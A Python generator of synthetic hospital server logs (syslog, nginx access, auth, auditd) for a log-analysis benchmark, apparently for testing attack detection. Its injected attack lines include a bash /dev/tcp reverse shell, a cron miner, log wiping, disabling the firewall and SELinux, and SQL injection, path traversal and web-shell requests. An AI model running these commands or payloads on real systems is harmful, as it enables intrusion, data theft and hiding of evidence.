#!/usr/bin/env python3
"""Deterministic generator of a hospital server's mixed logs, for Vigie's benchmark.

  gen_mixed.py syslog OUT LINES [--seed N]   /var/log/syslog-like file (RFC 3164 file format):
      sshd, sudo, CRON, systemd, systemd-logind, kernel (UFW, link, audit), postfix, dhclient,
      chronyd, rsyslogd, dbus-daemon, smartd ... with about 1% attack lines (SSH guessing,
      sudo abuse, new accounts, cron/systemd persistence, log wiping, firewall off, reverse shells).
  gen_mixed.py access OUT LINES [--seed N]   nginx "combined" access log of a patient/staff portal,
      with about 2% scanners, path traversal, SQL injection, web shells and cmd.exe worm probes.
  gen_mixed.py auth OUT LINES [--seed N]     /var/log/auth.log of the same (internal, firewalled)
      server: staff SSH sessions, sudo, cron and systemd-logind PAM sessions, with about 2% attack
      lines (SSH guessing from a compromised workstation or the VPN, sudo abuse, new accounts).
      ../shared/bench/gen_authlog.py is the attack-heavy counterpart (an internet-facing sshd).
  gen_mixed.py audit OUT LINES [--seed N]    /var/log/audit/audit.log (auditd, log_format ENRICHED,
      x86_64, execve audited as the ANSSI/CIS rules do): SYSCALL/EXECVE/CWD/PATH/PROCTITLE/EOE
      groups of monitoring checks, cron jobs, systemd services, PostgreSQL archiving and admin
      shells; the PAM records of cron, ssh and sudo; SERVICE_START/STOP; chronyd's adjtimex; about
      0.3% of the groups are attack steps (useradd, insmod, reverse shell, chmod u+s, cat
      /etc/shadow, download and run from /tmp, ...). Serials and timestamps increase; values are
      hex-encoded as auditd does (spaces, quotes, control bytes; proctitle with NUL separators).

Python 3 standard library only. The same arguments always give the same bytes. Prints a JSON
summary (lines, bytes, attack lines per kind) on stdout.
"""
import argparse
import calendar
import json
import random
import time

T0 = calendar.timegm((2026, 11, 22, 0, 0, 0, 0, 0, 0))
HOST = "pacs01"

ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
ap.add_argument("kind", choices=("syslog", "access", "auth", "audit"))
ap.add_argument("out")
ap.add_argument("lines", type=int)
ap.add_argument("--seed", type=int, default=7)
a = ap.parse_args()
R = random.Random(a.seed)

STAFF = ["alice", "bob", "carol", "dmartin", "lpetit", "radiologie", "deploy", "backup", "monitor"]
UIDS = {u: 1001 + i for i, u in enumerate(STAFF)}
INTERNAL = [f"10.{R.randint(10, 12)}.{R.randint(0, 31)}.{R.randint(2, 250)}" for _ in range(120)]
BAD_USERS = ("admin test user oracle postgres ubuntu guest support pi hadoop jenkins mysql nagios "
             "ftpuser administrator centos debian ec2-user dev tomcat zabbix odoo docker vagrant "
             "demo pacs dicom orthanc").split()
HEX = "0123456789abcdef"
B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def pub_ip():
    while True:
        o1 = R.randint(1, 223)
        if o1 not in (10, 127, 172, 192, 100, 169):
            return f"{o1}.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(1, 254)}"


def hexs(n):
    return "".join(R.choice(HEX) for _ in range(n))


def b64s(n):
    return "".join(R.choice(B64) for _ in range(n))


class Clock:
    """Monotonic event time: about `rate` events per second on average."""

    def __init__(self, rate):
        self.t = float(T0)
        self.rate = rate

    def tick(self):
        self.t += R.expovariate(self.rate)
        return self.t


# ---------------------------------------------------------------------------- syslog
_pid = [2000]


def newpid():
    _pid[0] += R.randint(1, 7)
    if _pid[0] > 4_000_000:
        _pid[0] = 2000
    return _pid[0]


def ssh_session(out):
    u = R.choice(STAFF)
    ip, pid, port = R.choice(INTERNAL), newpid(), R.randint(1024, 65535)
    sid = R.randint(100, 99999)
    out.append(("sshd", pid, f"Accepted publickey for {u} from {ip} port {port} ssh2: ED25519 SHA256:{b64s(43)}"))
    out.append(("sshd", pid, f"pam_unix(sshd:session): session opened for user {u}(uid={UIDS[u]}) by (uid=0)"))
    out.append(("systemd-logind", 701, f"New session {sid} of user {u}."))
    out.append(("systemd", 1, f"Started session-{sid}.scope - Session {sid} of User {u}."))
    out.append(("sshd", pid, f"Received disconnect from {ip} port {port}:11: disconnected by user"))
    out.append(("sshd", pid, f"Disconnected from user {u} {ip} port {port}"))
    out.append(("sshd", pid, f"pam_unix(sshd:session): session closed for user {u}"))
    out.append(("systemd-logind", 701, f"Removed session {sid}."))


SUDO_CMDS = ["/usr/bin/systemctl restart orthanc.service", "/usr/bin/apt-get update",
             "/usr/bin/journalctl -u orthanc -n 200", "/usr/bin/tail -n 100 /var/log/nginx/error.log",
             "/usr/sbin/nginx -t", "/usr/bin/systemctl reload nginx.service", "/usr/bin/df -h",
             "/usr/bin/systemctl status postgresql@15-main.service", "/usr/sbin/ufw status verbose"]


def sudo_normal(out):
    u = R.choice(STAFF[:6])
    out.append(("sudo", None, f"   {u} : TTY=pts/{R.randint(0, 5)} ; PWD=/home/{u} ; USER=root ; COMMAND={R.choice(SUDO_CMDS)}"))
    out.append(("sudo", None, f"pam_unix(sudo:session): session opened for user root(uid=0) by {u}(uid={UIDS[u]})"))
    out.append(("sudo", None, "pam_unix(sudo:session): session closed for user root"))


CRONJOBS = [("root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"),
            ("root", "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi"),
            ("postgres", "/usr/local/bin/pg_backup_incremental.sh >/dev/null 2>&1"),
            ("orthanc", "/opt/orthanc/bin/purge-old-studies --days 30 >/dev/null 2>&1"),
            ("root", "cd / && run-parts --report /etc/cron.hourly")]


def cron_normal(out):
    u, cmd = R.choice(CRONJOBS)
    pid = newpid()
    uid = {"root": 0, "postgres": 113, "orthanc": 114}[u]
    out.append(("CRON", pid, f"pam_unix(cron:session): session opened for user {u}(uid={uid}) by (uid=0)"))
    out.append(("CRON", pid, f"({u}) CMD ({cmd})"))
    out.append(("CRON", pid, f"pam_unix(cron:session): session closed for user {u}"))


UNITS = [("sysstat-collect.service", "system activity accounting tool"),
         ("phpsessionclean.service", "Clean php session files"),
         ("apt-daily.service", "Daily apt download activities"),
         ("certbot.service", "Certbot"), ("logrotate.service", "Rotate log files"),
         ("man-db.service", "Daily man-db regeneration"),
         ("systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories"),
         ("fstrim.service", "Discard unused blocks on filesystems from /etc/fstab")]


def systemd_normal(out):
    unit, desc = R.choice(UNITS)
    out.append(("systemd", 1, f"Starting {unit} - {desc}..."))
    out.append(("systemd", 1, f"{unit}: Deactivated successfully."))
    out.append(("systemd", 1, f"Finished {unit} - {desc}."))


def kernel_line(t):
    up = t - T0 + 1234.5
    r = R.random()
    if r < 0.7:
        return ("kernel", None, f"[{up:12.6f}] [UFW BLOCK] IN=ens18 OUT= MAC=52:54:00:{hexs(2)}:{hexs(2)}:{hexs(2)}:"
                                f"52:54:00:12:34:56:08:00 SRC={pub_ip()} DST=10.11.0.5 LEN=44 TOS=0x00 PREC=0x00 "
                                f"TTL={R.randint(30, 250)} ID={R.randint(1, 65535)} PROTO=TCP SPT={R.randint(1024, 65535)} "
                                f"DPT={R.choice([23, 445, 3389, 5900, 8080, 1433, 6379])} WINDOW=1024 RES=0x00 SYN URGP=0")
    if r < 0.85:
        return ("kernel", None, f"[{up:12.6f}] audit: type=1400 audit({t:.3f}:{R.randint(100, 9999)}): apparmor=\"ALLOWED\" "
                                f"operation=\"open\" profile=\"/usr/sbin/nginx\" name=\"/srv/portal/cache/{hexs(8)}\" "
                                f"pid={newpid()} comm=\"nginx\" requested_mask=\"r\" denied_mask=\"r\" fsuid=33 ouid=33")
    return ("kernel", None, f"[{up:12.6f}] e1000e: ens19 NIC Link is Up 1000 Mbps Full Duplex, Flow Control: Rx/Tx")


def postfix_lines(out):
    qid = hexs(10).upper()
    pid = newpid()
    rcpt = R.choice(["secretariat", "radiologie", "dsi", "astreinte"]) + "@chu-exemple.fr"
    out.append(("postfix/pickup", pid, f"{qid}: uid=0 from=<root>"))
    out.append(("postfix/cleanup", pid + 1, f"{qid}: message-id=<2026{R.randint(10**9, 10**10 - 1)}.{qid}@{HOST}.chu-exemple.fr>"))
    out.append(("postfix/qmgr", 1123, f"{qid}: from=<root@{HOST}.chu-exemple.fr>, size={R.randint(400, 9000)}, nrcpt=1 (queue active)"))
    out.append(("postfix/smtp", pid + 2, f"{qid}: to=<{rcpt}>, relay=smtp.chu-exemple.fr[10.11.0.25]:25, delay=0.{R.randint(10, 99)}, "
                                          f"delays=0.01/0/0.05/0.1, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as {hexs(10).upper()})"))
    out.append(("postfix/qmgr", 1123, f"{qid}: removed"))


def misc_line():
    r = R.random()
    if r < 0.25:
        return ("dhclient", 812, f"DHCPREQUEST for 10.11.0.5 on ens18 to 10.11.0.1 port 67 (xid=0x{hexs(8)})")
    if r < 0.4:
        return ("dhclient", 812, "bound to 10.11.0.5 -- renewal in 1800 seconds.")
    if r < 0.6:
        return ("chronyd", 655, f"Selected source 10.11.0.{R.randint(2, 4)} (ntp{R.randint(1, 3)}.chu-exemple.fr)")
    if r < 0.7:
        return ("rsyslogd", 640, "[origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"640\" x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed")
    if r < 0.85:
        return ("dbus-daemon", 590, "[system] Successfully activated service 'org.freedesktop.timedate1'")
    return ("smartd", 601, f"Device: /dev/sda [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from {R.randint(30, 40)} to {R.randint(30, 40)}")


def attack_lines(out, stats):
    """One attack step: mostly SSH guessing, rarely the rest (as on a real exposed host)."""
    r = R.random()
    ip, pid, port = pub_ip(), newpid(), R.randint(1024, 65535)
    if r < 0.55:
        stats["ssh_guess"] += 1
        u = R.choice(BAD_USERS + ["root"] * 8)
        if u == "root":
            out.append(("sshd", pid, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root"))
            out.append(("sshd", pid, f"Failed password for root from {ip} port {port} ssh2"))
        else:
            out.append(("sshd", pid, f"Invalid user {u} from {ip} port {port}"))
            out.append(("sshd", pid, "pam_unix(sshd:auth): check pass; user unknown"))
            out.append(("sshd", pid, f"Failed password for invalid user {u} from {ip} port {port} ssh2"))
        out.append(("sshd", pid, f"Connection closed by {'invalid' if u != 'root' else 'authenticating'} user {u} {ip} port {port} [preauth]"))
        return
    if r < 0.75:
        stats["ssh_noise"] += 1
        out.append(("sshd", pid, R.choice([
            f"reverse mapping checking getaddrinfo for {hexs(6)}.static.example.net [{ip}] failed - POSSIBLE BREAK-IN ATTEMPT!",
            f"error: maximum authentication attempts exceeded for root from {ip} port {port} ssh2 [preauth]",
            f"Did not receive identification string from {ip} port {port}",
            f"banner exchange: Connection from {ip} port {port}: invalid format"])))
        return
    stats["host_attack"] += 1
    u = R.choice(["www-data", "lpetit", "orthanc"])
    pre = f"   {u} : TTY=pts/{R.randint(0, 5)} ; PWD=/tmp ; USER=root ; COMMAND="
    k = R.randrange(14)
    if k == 0:
        out.append(("sudo", None, f" {u} : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh"))
    elif k == 1:
        out.append(("sudo", None, f"pam_unix(sudo:auth): authentication failure; logname={u} uid=1005 euid=0 tty=/dev/pts/1 ruser={u} rhost=  user={u}"))
    elif k == 2:
        out.append(("sudo", None, pre + "/bin/bash"))
    elif k == 3:
        n = f"svc{hexs(3)}"
        out.append(("useradd", newpid(), f"new group: name={n}, GID=1{R.randint(100, 999)}"))
        out.append(("useradd", newpid(), f"new user: name={n}, UID=1{R.randint(100, 999)}, GID=1{R.randint(100, 999)}, home=/home/{n}, shell=/bin/bash, from=/dev/pts/1"))
    elif k == 4:
        out.append(("usermod", newpid(), f"add '{u}' to group 'sudo'"))
        out.append(("usermod", newpid(), f"add '{u}' to shadow group 'sudo'"))
    elif k == 5:
        out.append(("crontab", newpid(), f"(root) REPLACE ({u})"))
    elif k == 6:
        out.append(("CRON", newpid(), f"({u}) CMD (/tmp/.ICE-unix/.x/kswapd0 -o pool.example.net:3333 >/dev/null 2>&1)"))
    elif k == 7:
        out.append(("systemd", 1, f"Started run-u{R.randint(10, 999)}.service - /bin/sh /dev/shm/.k/{hexs(6)}."))
    elif k == 8:
        out.append(("sudo", None, pre + f"/usr/bin/rm -f /home/{u}/.bash_history"))
    elif k == 9:
        out.append(("sudo", None, pre + "/usr/bin/truncate -s 0 /var/log/auth.log"))
    elif k == 10:
        out.append(("sudo", None, pre + "/usr/sbin/ufw disable"))
    elif k == 11:
        out.append(("sudo", None, pre + "/usr/sbin/setenforce 0"))
    elif k == 12:
        out.append(("sudo", None, pre + f"/bin/bash -c bash -i >& /dev/tcp/{ip}/4444 0>&1"))
    else:
        out.append(("sudo", None, pre + f"/usr/bin/cp /tmp/{hexs(6)}.service /etc/systemd/system/"))


def syslog_group(t, grp, stats):
    r = R.random()
    if r < 0.14:
        ssh_session(grp)
    elif r < 0.20:
        sudo_normal(grp)
    elif r < 0.36:
        cron_normal(grp)
    elif r < 0.48:
        systemd_normal(grp)
    elif r < 0.66:
        grp.append(kernel_line(t))
    elif r < 0.76:
        postfix_lines(grp)
    elif r < 0.987:
        grp.append(misc_line())
    else:
        attack_lines(grp, stats)


def auth_group(t, grp, stats):
    """auth.log: the authpriv/auth part of the same server's day (PAM, sshd, sudo, logind)."""
    r = R.random()
    if r < 0.22:
        ssh_session(grp)
        del grp[3]  # systemd's "Started session-N.scope" goes to syslog
    elif r < 0.40:
        sudo_normal(grp)
    elif r < 0.97:
        # cron's PAM session lines go to auth.log; its CMD line goes to syslog
        cron_normal(grp)
        del grp[1]
    elif r < 0.988:
        u = R.choice(STAFF)
        grp.append(("systemd-logind", 701, R.choice([f"Session {R.randint(100, 99999)} logged out. Waiting for processes to exit.",
                                                     "Watching system buttons on /dev/input/event0 (Power Button)",
                                                     f"New session c{R.randint(1, 99)} of user {u}."])))
    else:
        attack_lines(grp, stats)


def gen_syslog(f, n, group=syslog_group, rate=4.0):
    stats = {"ssh_guess": 0, "ssh_noise": 0, "host_attack": 0}
    clock = Clock(rate)
    written = 0
    nbytes = 0
    buf = []
    last_s, ts = None, ""
    while written < n:
        t = clock.tick()
        grp = []
        group(t, grp, stats)
        s = int(t)
        if s != last_s:
            ts = time.strftime("%b %d %H:%M:%S", time.gmtime(s))
            last_s = s
        for prog, pid, msg in grp:
            if written >= n:
                break
            tag = f"{prog}[{pid}]" if pid is not None else prog
            line = f"{ts} {HOST} {tag}: {msg}\n"
            buf.append(line)
            nbytes += len(line)
            written += 1
        if len(buf) >= 8192:
            f.write("".join(buf))
            buf.clear()
    f.write("".join(buf))
    return dict(stats, lines=written, bytes=nbytes)


def gen_auth(f, n):
    return gen_syslog(f, n, auth_group, rate=0.5)  # 150k lines span about a day


# ---------------------------------------------------------------------------- access
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
       "Mozilla/5.0 (Linux; Android 14; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15"]
STATIC = ["/static/css/portal.css", "/static/js/portal.js", "/static/js/vendor.min.js", "/static/img/logo-chu.svg",
          "/static/fonts/marianne-regular.woff2", "/favicon.ico"]
REF = "https://portail.chu-exemple.fr"


def normal_request():
    r = R.random()
    if r < 0.40:
        return "GET", R.choice(STATIC), 200, R.randint(800, 180000), REF + "/portail/"
    if r < 0.55:
        return "GET", R.choice(["/portail/", "/portail/rendez-vous", "/portail/documents", "/portail/messagerie",
                                "/portail/compte"]), 200, R.randint(4000, 40000), REF + "/portail/"
    if r < 0.70:
        return "GET", f"/api/v1/rendez-vous?patient={R.randint(100000, 999999)}&from=2026-11-{R.randint(1, 30):02d}&limit=20", \
            200, R.randint(300, 9000), REF + "/portail/rendez-vous"
    if r < 0.78:
        return "GET", f"/fhir/r4/Patient/{R.randint(100000, 999999)}/$everything?_count=50", 200, R.randint(2000, 90000), "-"
    if r < 0.84:
        return "POST", "/portail/connexion", R.choice([302, 302, 302, 200]), R.randint(0, 3000), REF + "/portail/connexion"
    if r < 0.90:
        return "GET", f"/portail/documents/{hexs(32)}.pdf", 200, R.randint(40000, 900000), REF + "/portail/documents"
    if r < 0.96:
        return "GET", "/health", 200, 2, "-"
    return "GET", f"/portail/recherche?q={R.choice(['cardiologie', 'irm+genou', 'prise+de+sang', 'union+des+praticiens', 'pediatrie'])}", \
        200, R.randint(2000, 20000), REF + "/portail/"


ATTACKS = [
    ("scan", "GET", "/wp-login.php", 404), ("scan", "GET", "/.env", 404), ("scan", "GET", "/.git/config", 404),
    ("scan", "GET", "/phpmyadmin/index.php", 404), ("scan", "GET", "/actuator/env", 404),
    ("traversal", "GET", "/portail/documents/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 400),
    ("traversal", "GET", "/static/..%252f..%252f..%252fetc/shadow", 400),
    ("traversal", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400),
    ("sqli", "GET", "/api/v1/rendez-vous?patient=1%27%20union%20select%20null,login,password%20from%20users--%20-", 500),
    ("sqli", "GET", "/portail/recherche?q=x%27%20or%201=1--", 200),
    ("sqli", "GET", "/api/v1/rendez-vous?patient=1+AND+SLEEP(5)", 200),
    ("webshell", "GET", "/uploads/avatars/shell.php?cmd=id", 404),
    ("webshell", "GET", "/wp-content/plugins/hello/c99.php", 404),
    ("cmdexe", "GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", 404),
    ("cmdexe", "GET", "/MSADC/root.exe?/c+dir", 404),
]
SCANNER_UAS = ["Mozilla/5.0 zgrab/0.x", "sqlmap/1.7.2#stable (https://sqlmap.org)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
               "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", "python-requests/2.31.0", "-"]


def gen_access(f, n):
    stats = {k: 0 for k in ("scan", "traversal", "sqli", "webshell", "cmdexe")}
    clock = Clock(rate=15.0)
    nbytes = 0
    buf = []
    last_s, ts = None, ""
    users = [R.choice(INTERNAL) for _ in range(300)] + [pub_ip() for _ in range(700)]
    for _ in range(n):
        t = clock.tick()
        s = int(t)
        if s != last_s:
            ts = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(s))
            last_s = s
        if R.random() < 0.02:
            kind, meth, uri, status = R.choice(ATTACKS)
            stats[kind] += 1
            line = f'{pub_ip()} - - [{ts}] "{meth} {uri} HTTP/1.1" {status} {R.randint(0, 600)} "-" "{R.choice(SCANNER_UAS)}"\n'
        else:
            meth, uri, status, size, ref = normal_request()
            user = R.choice(["-", "-", "-", R.choice(STAFF)])
            line = f'{R.choice(users)} - {user} [{ts}] "{meth} {uri} HTTP/2.0" {status} {size} "{ref}" "{R.choice(UAS)}"\n'
        buf.append(line)
        nbytes += len(line)
        if len(buf) >= 8192:
            f.write("".join(buf))
            buf.clear()
    f.write("".join(buf))
    return dict(stats, lines=n, bytes=nbytes)


# ---------------------------------------------------------------------------- audit
GS = "\x1d"
UNSET = 4294967295
AU_NAMES = {0: "root", 33: "www-data", 113: "postgres", 114: "orthanc", 117: "nagios", UNSET: "unset"}
AU_NAMES.update({uid: u for u, uid in UIDS.items()})


def au_arg(v):
    """auditd's encoding of an untrusted string: "text" when plain, else uppercase hex."""
    if any(c in v for c in ' "\'') or any(ord(c) < 0x21 or ord(c) > 0x7e for c in v):
        return v.encode().hex().upper()
    return f'"{v}"'


def au_name(uid):
    return AU_NAMES.get(uid, f"unknown({uid})")


class Audit:
    """Audit events: one serial each, increasing, the time from a monotonic clock."""

    def __init__(self, rate):
        self.clock = Clock(rate)
        self.serial = R.randint(100000, 900000)
        self.ses = 1000
        self.lines = []

    def hdr(self):
        self.serial += 1
        t = self.clock.tick()
        return f"msg=audit({int(t)}.{int(t * 1000) % 1000:03d}:{self.serial}):"

    def execve(self, pid, ppid, exe, argv, cwd, uid=0, auid=UNSET, ses=UNSET, tty="(none)", key="exec",
               comm=None):
        h = self.hdr()
        comm = comm or exe.rsplit("/", 1)[1][:15]
        ids = " ".join(f"{k}={uid}" for k in ("uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid"))
        names = " ".join(f'{k}="{au_name(uid)}"' for k in ("UID", "GID", "EUID", "SUID", "FSUID", "EGID", "SGID", "FSGID"))
        a = (f"{R.randint(0x55d000000000, 0x55dfffffffff):x}", f"{R.randint(0x55d000000000, 0x55dfffffffff):x}",
             f"{R.randint(0x7ff000000000, 0x7fffffffffff):x}")
        self.lines += [
            f"type=SYSCALL {h} arch=c000003e syscall=59 success=yes exit=0 a0={a[0]} a1={a[1]} a2={a[2]} a3=8 "
            f"items=2 ppid={ppid} pid={pid} auid={auid} {ids} tty={tty} ses={ses} comm={au_arg(comm)} "
            f'exe={au_arg(exe)} subj=unconfined key="{key}"{GS}ARCH=x86_64 SYSCALL=execve AUID="{au_name(auid)}" {names}',
            f"type=EXECVE {h} argc={len(argv)} " + " ".join(f"a{i}={au_arg(v)}" for i, v in enumerate(argv)),
            f"type=CWD {h} cwd={au_arg(cwd)}",
            f"type=PATH {h} item=0 name={au_arg(exe)} inode={R.randint(1000, 3000000)} dev=08:01 mode=0100755 "
            f"ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
            f'{GS}OUID="root" OGID="root"',
            f'type=PATH {h} item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1311 dev=08:01 mode=0100755 ouid=0 '
            f'ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0{GS}OUID="root" OGID="root"',
            f"type=PROCTITLE {h} proctitle={au_arg(chr(0).join(argv)[:128])}",  # the kernel keeps 128 bytes
            f"type=EOE {h}",
        ]

    def syscall(self, pid, ppid, exe, sysno, sysname, key, uid=0, auid=UNSET, ses=UNSET, path=None, proctitle=None,
                a0="0"):
        h = self.hdr()
        comm = exe.rsplit("/", 1)[1][:15]
        self.lines.append(
            f"type=SYSCALL {h} arch=c000003e syscall={sysno} success=yes exit=0 a0={a0} a1=0 a2=0 a3=0 "
            f"items={1 if path else 0} ppid={ppid} pid={pid} auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} "
            f'fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses={ses} comm="{comm}" exe="{exe}" '
            f'subj=unconfined key="{key}"{GS}ARCH=x86_64 SYSCALL={sysname} AUID="{au_name(auid)}" UID="{au_name(uid)}" '
            f'GID="{au_name(uid)}" EUID="{au_name(uid)}" SUID="{au_name(uid)}" FSUID="{au_name(uid)}" '
            f'EGID="{au_name(uid)}" SGID="{au_name(uid)}" FSGID="{au_name(uid)}"')
        if path:
            self.lines.append(f"type=CWD {h} cwd=\"/\"")
            self.lines.append(
                f'type=PATH {h} item=0 name="{path}" inode={R.randint(1000, 3000000)} dev=08:01 mode=0100640 ouid=0 '
                f'ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0'
                f'{GS}OUID="root" OGID="shadow"')
        self.lines.append(f"type=PROCTITLE {h} proctitle={au_arg(chr(0).join(proctitle or [exe]))}")
        self.lines.append(f"type=EOE {h}")

    def user(self, typ, pid, uid, auid, ses, inner, enriched=None):
        h = self.hdr()
        enr = enriched or f'UID="{au_name(uid)}" AUID="{au_name(auid)}"'
        self.lines.append(f"type={typ} {h} pid={pid} uid={uid} auid={auid} ses={ses} subj=unconfined msg='{inner}'{GS}{enr}")

    def login(self, pid, auid, ses):
        h = self.hdr()
        self.lines.append(f"type=LOGIN {h} pid={pid} uid=0 subj=unconfined old-auid={UNSET} auid={auid} tty=(none) "
                          f'old-ses={UNSET} ses={ses} res=1{GS}UID="root" OLD-AUID="unset" AUID="{au_name(auid)}"')

    def pam(self, typ, op, pid, auid, ses, acct, exe, grantors, terminal, addr="?", res="success"):
        self.user(typ, pid, 0, auid, ses, f'op=PAM:{op} grantors={grantors} acct="{acct}" exe="{exe}" hostname={addr} '
                  f'addr={addr} terminal={terminal} res={res}')

    def service(self, typ, unit):
        self.user(typ, 1, 0, UNSET, UNSET, f'unit={unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? '
                  f"addr=? terminal=? res=success")


MON_CHECKS = [["/usr/lib/nagios/plugins/check_disk", "-w", "20%", "-c", "10%", "-p", "/"],
              ["/usr/lib/nagios/plugins/check_load", "-r", "-w", "4,3,2", "-c", "8,6,4"],
              ["/usr/lib/nagios/plugins/check_procs", "-C", "Orthanc", "-c", "1:1"],
              ["/usr/lib/nagios/plugins/check_swap", "-w", "30%", "-c", "10%"],
              ["/usr/lib/nagios/plugins/check_http", "-H", "localhost", "-u", "/health", "-p", "8042"],
              ["/usr/lib/nagios/plugins/check_pgsql", "-H", "127.0.0.1", "-d", "orthanc"],
              ["/usr/lib/nagios/plugins/check_ntp_time", "-H", "ntp1.chu-exemple.fr"]]
AU_CRON = [  # (user, uid, sh -c command, [argv of the commands it runs])
    ("root", 0, "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
     [["/usr/lib/sysstat/debian-sa1", "1", "1"], ["/usr/lib/sysstat/sa1", "1", "1"],
      ["/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"]]),
    ("root", 0, "cd / && run-parts --report /etc/cron.hourly", [["/usr/bin/run-parts", "--report", "/etc/cron.hourly"]]),
    ("postgres", 113, "/usr/local/bin/pg_backup_incremental.sh >/dev/null 2>&1",
     [["/usr/bin/bash", "/usr/local/bin/pg_backup_incremental.sh"], ["/usr/bin/date", "+%Y%m%d"],
      ["/usr/bin/pg_basebackup", "-D", "/srv/backup/pg/incr", "-Ft", "-z", "-X", "fetch"], ["/usr/bin/find", "/srv/backup/pg", "-mtime", "+14", "-delete"]]),
    ("orthanc", 114, "/opt/orthanc/bin/purge-old-studies --days 30 >/dev/null 2>&1",
     [["/usr/bin/python3", "/opt/orthanc/bin/purge-old-studies", "--days", "30"]]),
]
AU_SERVICES = [("sysstat-collect", ["/usr/lib/sysstat/debian-sa1", "1", "1"]),
               ("logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"]),
               ("man-db", ["/usr/bin/mandb", "--quiet"]),
               ("apt-daily", ["/usr/lib/apt/apt.systemd.daily", "update"]),
               ("certbot", ["/usr/bin/certbot", "-q", "renew", "--no-random-sleep-on-renew"]),
               ("systemd-tmpfiles-clean", ["/usr/bin/systemd-tmpfiles", "--clean"]),
               ("phpsessionclean", ["/usr/lib/php/sessionclean"])]
ADMIN_CMDS = [["ls", "-la"], ["ps", "aux"], ["systemctl", "status", "orthanc"], ["journalctl", "-u", "orthanc", "-n", "200"],
              ["tail", "-f", "/var/log/orthanc/Orthanc.log"], ["df", "-h"], ["grep", "-i", "error", "/var/log/orthanc/Orthanc.log"],
              ["vim", "/etc/orthanc/orthanc.json"], ["python3", "/opt/scripts/check_pacs.py", "--verbose"], ["free", "-m"],
              ["less", "/var/log/syslog"], ["cat", "/etc/orthanc/orthanc.json"], ["du", "-sh", "/srv/orthanc/db"],
              ["top", "-b", "-n", "1"], ["uptime"], ["id"], ["ss", "-tlnp"], ["ip", "a"]]
BINDIR = {"ls": "/usr/bin", "ps": "/usr/bin", "systemctl": "/usr/bin", "journalctl": "/usr/bin", "tail": "/usr/bin",
          "df": "/usr/bin", "grep": "/usr/bin", "vim": "/usr/bin", "python3": "/usr/bin", "free": "/usr/bin",
          "less": "/usr/bin", "cat": "/usr/bin", "du": "/usr/bin", "top": "/usr/bin", "uptime": "/usr/bin",
          "id": "/usr/bin", "ss": "/usr/bin", "ip": "/usr/sbin", "sudo": "/usr/bin"}


def au_monitoring(A):
    ppid = 1180  # nagios-nrpe-server
    c = R.choice(MON_CHECKS)
    A.execve(newpid(), ppid, c[0], c, "/", uid=117)


def au_cron(A):
    u, uid, cmd, runs = R.choice(AU_CRON)
    A.ses += 1
    cpid = newpid()
    g = "pam_env,pam_env,pam_permit,pam_unix,pam_limits"
    A.pam("USER_ACCT", "accounting", cpid, UNSET, UNSET, u, "/usr/sbin/cron", "pam_permit", "cron")
    A.pam("CRED_ACQ", "setcred", cpid, UNSET, UNSET, u, "/usr/sbin/cron", "pam_permit", "cron")
    A.login(cpid, uid, A.ses)
    A.pam("USER_START", "session_open", cpid, uid, A.ses, u, "/usr/sbin/cron", "pam_loginuid," + g, "cron")
    sh = newpid()
    A.execve(sh, cpid, "/usr/bin/dash", ["/bin/sh", "-c", cmd], "/" if u == "root" else f"/var/lib/{u}", uid=uid,
             auid=uid, ses=A.ses, comm="sh")
    for argv in runs:
        A.execve(newpid(), sh, argv[0], argv, "/", uid=uid, auid=uid, ses=A.ses)
    A.pam("CRED_DISP", "setcred", cpid, uid, A.ses, u, "/usr/sbin/cron", "pam_permit", "cron")
    A.pam("USER_END", "session_close", cpid, uid, A.ses, u, "/usr/sbin/cron", "pam_loginuid," + g, "cron")


def au_service(A):
    unit, argv = R.choice(AU_SERVICES)
    A.service("SERVICE_START", unit)
    A.execve(newpid(), 1, argv[0], argv, "/")
